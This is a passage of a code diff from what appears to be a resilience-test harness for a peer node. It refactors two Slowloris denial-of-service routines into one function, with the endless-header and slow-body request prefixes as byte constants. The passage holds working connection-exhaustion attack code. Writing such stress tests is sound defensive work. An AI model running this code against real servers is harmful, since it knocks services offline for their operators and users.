@@ -44,43 +44,22 @@ class Attack:
         return dict(self.counts)
 
 
-def slow_heads(attack, port, connections, _):
-    """Slowloris: many connections, each with a head that never ends, a byte now and then."""
+# A head that never ends, and a body of a megabyte that is announced: what is left of each comes a byte now and then.
+ENDLESS_HEAD = b"POST /peer/v1/documents HTTP/1.1\r\nHost: a\r\nX-A: "
+LONG_BODY = (
+    b"POST /peer/v1/documents HTTP/1.1\r\nHost: a\r\nContent-Type: application/jose\r\nContent-Length: 1048576\r\n\r\n"
+)
+
+
+def slow(attack, port, connections, beginning, _):
+    """Slowloris: many connections, each with a request that begins and goes on a byte now and then."""
     held = []
     for _ in range(connections):
         if attack.stopping:
             break
         try:
             connection = attack.tls.wrap_socket(wire.dial(port, SOURCE, timeout=3))
-            connection.sendall(b"POST /peer/v1/documents HTTP/1.1\r\nHost: a\r\nX-A: ")
-            held.append(connection)
-            attack.count("opened")
-        except (OSError, ssl.SSLError):
-            attack.count("turned away")
-    while held and not attack.stopping:
-        for connection in list(held):
-            try:
-                connection.send(b"a")
-            except (OSError, ssl.SSLError):
-                held.remove(connection)
-                attack.count("closed by the node")
-        time.sleep(0.5)
-    for connection in held:
-        connection.close()
-
-
-def slow_bodies(attack, port, connections, _):
-    """Bodies of a megabyte that are announced and come a byte at a time."""
-    held = []
-    for _ in range(connections):
-        try:
-            connection = attack.tls.wrap_socket(wire.dial(port, SOURCE, timeout=3))
-            connection.sendall(
-                (
-                    "POST /peer/v1/documents HTTP/1.1\r\nHost: a\r\nContent-Type: application/jose\r\n"
-                    "Content-Length: 1048576\r\n\r\n"
-                ).encode()
-            )
+            connection.sendall(beginning)
             held.append(connection)
             attack.count("opened")
         except (OSError, ssl.SSLError):
